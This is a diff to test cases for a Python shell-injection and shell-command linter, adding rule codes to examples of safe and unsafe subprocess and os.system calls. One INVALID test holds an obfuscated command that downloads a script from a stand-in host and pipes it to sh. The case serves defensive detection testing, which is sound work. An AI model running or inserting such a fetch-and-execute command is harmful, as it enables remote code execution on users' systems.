@@ -144,16 +144,20 @@ class ShellInjection(PythonChecker):
         return how, variables
 
     VALID = [
-        Valid('import subprocess\ndef f(src, dst):\n    subprocess.run(["convert", src, "-resize", "800x800", dst], check=True)\n'),
-        Valid('import subprocess\nsubprocess.run("ls -la | wc -l", shell=True)\n'),
-        Valid('import subprocess, shlex\ndef f(src):\n    subprocess.run(f"convert {shlex.quote(src)} out.png", shell=True)\n'),
-        Valid('import os, shlex\ndef f(path):\n    os.system("rm -rf " + shlex.quote(path))\n'),
-        Valid('import subprocess\nCMD = "git rev-parse HEAD"\nout = subprocess.check_output(CMD, shell=True)\n'),
-        Valid('import subprocess\ndef f(n):\n    subprocess.run(f"sleep {int(n)}", shell=True)\n'),
-        Valid('import subprocess\ndef f(name):\n    subprocess.run(f"echo {name}", shell=False)\n'),
+        Valid('import subprocess\ndef f(src, dst):\n    subprocess.run(["convert", src, "-resize", "800x800", dst], check=True)\n',
+              "BDL505"),
+        Valid('import subprocess\nsubprocess.run("ls -la | wc -l", shell=True)\n', "BDL505"),
+        Valid('import subprocess, shlex\ndef f(src):\n    subprocess.run(f"convert {shlex.quote(src)} out.png", shell=True)\n',
+              "BDL505"),
+        Valid('import os, shlex\ndef f(path):\n    os.system("rm -rf " + shlex.quote(path))\n', "BDL505"),
+        Valid('import subprocess\nCMD = "git rev-parse HEAD"\nout = subprocess.check_output(CMD, shell=True)\n',
+              "BDL505"),
+        Valid('import subprocess\ndef f(n):\n    subprocess.run(f"sleep {int(n)}", shell=True)\n', "BDL505"),
+        Valid('import subprocess\ndef f(name):\n    subprocess.run(f"echo {name}", shell=False)\n', "BDL505"),
         # shadowed: a local function called system
-        Valid('def system(cmd):\n    print(cmd)\ndef f(x):\n    system(f"echo {x}")\n'),
-        Valid('import subprocess, shlex\ndef f(a, b):\n    subprocess.run(shlex.join(["cp", a, b]), shell=True)\n'),
+        Valid('def system(cmd):\n    print(cmd)\ndef f(x):\n    system(f"echo {x}")\n', "BDL505"),
+        Valid('import subprocess, shlex\ndef f(a, b):\n    subprocess.run(shlex.join(["cp", a, b]), shell=True)\n',
+              "BDL505"),
     ]
     INVALID = [
         Invalid('import subprocess\ndef f(src, dst):\n    subprocess.run(f"convert {src} -resize 800x800 {dst}", shell=True, check=True)\n',
@@ -194,10 +198,15 @@ class ShellCommandChecker(PythonChecker):
             self.report(node, finding.code, f"{label}: {finding.message}")
 
     VALID = [
-        Valid('import subprocess\nsubprocess.run("curl -fsSL -o /tmp/x.tgz https://example.com/x.tgz", shell=True)\n'),
-        Valid('import subprocess\nsubprocess.run(["curl", "-d", "$(env)", "https://api.example/v1"])\n'),  # no shell
-        Valid('import os\nos.system(\'curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" https://api.example/r\')\n'),
-        Valid('import os\nos.system("git push origin HEAD && pre-commit run --all-files")\n'),
+        Valid('import subprocess\nsubprocess.run("curl -fsSL -o /tmp/x.tgz https://example.com/x.tgz", shell=True)\n',
+              "BDL405"),
+        Valid('import subprocess\nsubprocess.run(["curl", "-d", "$(env)", "https://api.example/v1"])\n',
+              "BDL402"),  # no shell runs an argv list: `$(env)` is literal text
+        Valid('import os\nos.system(\'curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" https://api.example/r\')\n',
+              "BDL402"),
+        Valid('import os\nos.system("git push origin HEAD && pre-commit run --all-files")\n', "BDL804"),
+        Valid('import os\nos.system("cp .pre-commit-config.yaml /tmp/backup/")\n', "BDL803"),
+        Valid('import os\nos.system("dig +short api.example.com")\n', "BDL404"),
     ]
     INVALID = [
         Invalid('import os\nos.system("T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh")\n', "BDL405", 2),
